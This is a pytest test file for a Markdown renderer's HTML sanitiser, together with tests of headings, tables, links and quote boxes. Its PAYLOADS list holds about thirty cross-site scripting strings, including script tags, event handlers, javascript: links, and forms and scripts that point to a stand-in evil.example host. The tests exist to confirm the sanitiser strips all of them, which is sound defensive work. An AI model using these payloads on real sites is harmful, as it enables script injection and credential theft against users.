"""Markdown becomes HTML that may stand on a public page, whatever somebody typed or pasted."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from academy.charts import ChartError
from academy.rendering import SANITISER, render
from prose.markdown import render_answer

TAGS = re.compile(
    "p|br|strong|em|code|a|ul|ol|li|h[234]|dl|dt|dd|blockquote|pre|hr|div"
    "|table|caption|thead|tbody|tr|th|td|small|figure|figcaption|svg|rect"
)
ATTRIBUTES = re.compile(
    "href|title|id|start|scope|class|viewbox|preserveaspectratio|aria-hidden|x|width|height"
)
CLASSES = {"kt-try", "kt-story", "kt-pair", "kt-signs", "kt-example", "kt-quote"} | {
    "kt-shares",
    "kt-shares__bar",
    "kt-shares__low",
    "kt-shares__range",
}

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><rect width="1" height="1" onclick="alert(1)" style="fill:red"></rect></svg>',
    "<style>*{background:url(//evil.example)}</style>",
    '<p style="position:fixed;inset:0">over everything</p>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    "<javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=x onerror=a()>'>",
    '<form action="//evil.example"><input name=password></form>',
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    '```shares <img src=x onerror=alert(1)>\n<svg onload=alert(1)> | 10\n" x="y | 20\n```',
    "```<script>alert(1)</script>\n<script>alert(1)</script>\n```",
    "## <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|:-:|\n| <b onclick=alert(1)>x</b> |",
    "::: try <script>alert(1)</script>\n<script>alert(1)</script>\n:::",
    "::: quote <script>alert(1)</script> [x](javascript:alert(1))\nWords\n:::",
    "::: person\n### <img src=x onerror=alert(1)>\n:::",
    "```shares What\na | 10 | <img src=x onerror=alert(1)>\n```",
    "[x]: javascript:alert(1)\n\n[x]",
    "<!-- --><script>alert(1)</script>",
)


def leads_to_a_page(address: str) -> bool:
    """Whether a browser, which passes over control characters, would fetch it and not run it."""
    scheme = re.match(r"([a-z][a-z0-9+.-]*):", re.sub(r"[\x00-\x20]", "", address), re.IGNORECASE)
    return scheme is None or scheme[1].lower() in {"http", "https", "mailto", "tel"}


class Reader(HTMLParser):
    """Collects what a browser would be told to do, and which of it is not allowed."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.dangers: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if not TAGS.fullmatch(tag):
            self.dangers.append(tag)
        for name, value in attrs:
            if not ATTRIBUTES.fullmatch(name):
                self.dangers.append(f"{tag} {name}")
            if name == "class" and not set((value or "").split()) <= CLASSES:
                self.dangers.append(f"class {value}")
            if name == "href" and not leads_to_a_page(value or ""):
                self.dangers.append(f"href {value}")

    def handle_comment(self, data: str) -> None:
        self.dangers.append(f"comment {data}")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_is_typed_to_harm_comes_out_harmless(payload: str) -> None:
    assert Reader(render(payload).html).dangers == []
    assert Reader(render_answer(payload)).dangers == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_second_wall_holds_alone(payload: str) -> None:
    assert Reader(SANITISER.clean(payload)).dangers == []


def test_the_reader_of_these_tests_sees_what_is_dangerous() -> None:
    for danger in PAYLOADS[:4]:
        assert Reader(danger).dangers
    for address in ("javascript:alert(1)", "JAVA\tscript:alert(1)", " data:text/html,x"):
        assert Reader(f'<a href="{address}">x</a>').dangers
    assert Reader('<p class="kt-hero">x</p>').dangers


def test_a_tag_is_shown_as_it_was_typed() -> None:
    assert render("<b>bold</b>").html == "<p>&lt;b&gt;bold&lt;/b&gt;</p>\n"


MARKDOWN = st.text("ab\n \t#*_-=`|:[]()<>!\"'&;/\\1.~")


@given(MARKDOWN)
@settings(max_examples=500, deadline=None)
def test_all_that_is_written_passed_the_sanitiser(text: str) -> None:
    try:
        html = render(text).html
    except ChartError:
        return
    assert Reader(html).dangers == []
    assert SANITISER.clean(html) == html


def test_headings_begin_below_the_pages_own_and_skip_no_level() -> None:
    html = render("# A\n\n#### B\n\n##### C\n\n###### D\n\n## E\n\nF\n===").html
    assert re.findall(r"<(h\d)", html) == ["h2", "h3", "h4", "h4", "h2", "h2"]


def test_each_heading_has_a_name_of_its_own_that_is_no_other_elements() -> None:
    html = render("## Main\n\n## Main\n\n## Main 2\n\n## ?!\n\n## Über uns").html
    names = re.findall(r'id="([^"]+)"', html)
    assert names == ["h-main", "h-main-2", "h-main-2-2", "h", "h-uber-uns"]


def test_the_contents_are_the_highest_headings_as_plain_text() -> None:
    contents = render("## One *and* `two` & [three](/x)\n\n### Deeper\n\n## <b>").contents
    assert contents == [
        {"id": "h-one-and-two-three", "title": "One and two & three"},
        {"id": "h-b", "title": "<b>"},
    ]


def test_a_heading_without_words_is_in_no_list() -> None:
    assert render("##\n\n## A").contents == [{"id": "h-a", "title": "A"}]


def test_a_thousand_headings_alike_are_told_apart() -> None:
    names = [part["id"] for part in render("## A\n" * 1000).contents]
    assert len(set(names)) == 1000
    assert names[-1] == "h-a-1000"


def test_quotes_and_dots_are_set_as_they_are_printed() -> None:
    assert render('"It\'s" so...').html == "<p>“It’s” so…</p>\n"


def test_words_are_counted_as_they_are_read() -> None:
    assert render("## Two words\n\n[three](https://a.example/long-address) *four*").words == 4
    assert render("```shares Two words\nLabel | 10\n```").words == 4


def test_a_picture_is_not_fetched_from_elsewhere() -> None:
    assert "<img" not in render("![A cat](https://cats.example/cat.png)").html


def test_a_table_says_which_cells_are_heads() -> None:
    html = render("| A | B |\n|---|--:|\n| 1 | 2 |").html
    assert html.count('<th scope="col">') == 2
    assert "style" not in html


def test_a_box_and_terms_with_their_meaning() -> None:
    html = render("::: try\nWords.\n:::\n\nGoals\n: What for.").html
    assert '<div class="kt-try">\n<p>Words.</p>\n</div>' in html
    assert "<dt>Goals</dt>\n<dd>What for.</dd>" in html


def test_code_is_no_chart() -> None:
    assert render("```\na | 1\n```").html == "<pre><code>a | 1\n</code></pre>\n"


def test_a_link_leads_where_it_says() -> None:
    html = render('[a](/book/) [b](https://x.example "Why") <mail@x.example>').html
    assert '<a href="/book/">a</a>' in html
    assert '<a href="https://x.example" title="Why">b</a>' in html
    assert '<a href="mailto:mail@x.example">' in html


def test_an_answer_has_no_headings_of_its_own() -> None:
    html = render_answer("# Title\n\n- one\n\n> quoted\n\n```shares x\na | 1\n```")
    assert not re.search(r"<(h\d|blockquote|figure)", html)
    assert "<li>one</li>" in html


def test_a_quote_names_who_said_it_and_where() -> None:
    html = render("::: quote A. Rogers, in *A Book* (1961)\nSome “words”.\n:::").html
    assert html == (
        '<figure class="kt-quote"><blockquote>\n<p>Some “words”.</p>\n</blockquote>'
        "<figcaption>A. Rogers, in <em>A Book</em> (1961)</figcaption></figure>\n"
    )


def test_a_quote_inside_a_box_keeps_its_own_speaker() -> None:
    html = render("::: quote One\nA\n:::\n\n:::: try\n::: quote Two\nB\n:::\n::::").html
    assert re.findall(r"<p>(\w)</p>\n</blockquote><figcaption>(\w+)<", html) == [
        ("A", "One"),
        ("B", "Two"),
    ]


def test_an_example_of_a_person_says_that_it_is_made_up() -> None:
    html = render("::: person\n### Tomasz\n\nHe came.\n:::").html
    assert html.startswith('<div class="kt-story">\n<h2 id="h-tomasz">Tomasz</h2>')
    assert '<p>He came.</p>\n<p class="kt-example">An example, made up' in html


@pytest.mark.parametrize("word", ["try", "pair", "signs"])
def test_each_box_has_its_class(word: str) -> None:
    assert render(f"::: {word}\nWords\n:::").html == (
        f'<div class="kt-{word}">\n<p>Words</p>\n</div>\n'
    )
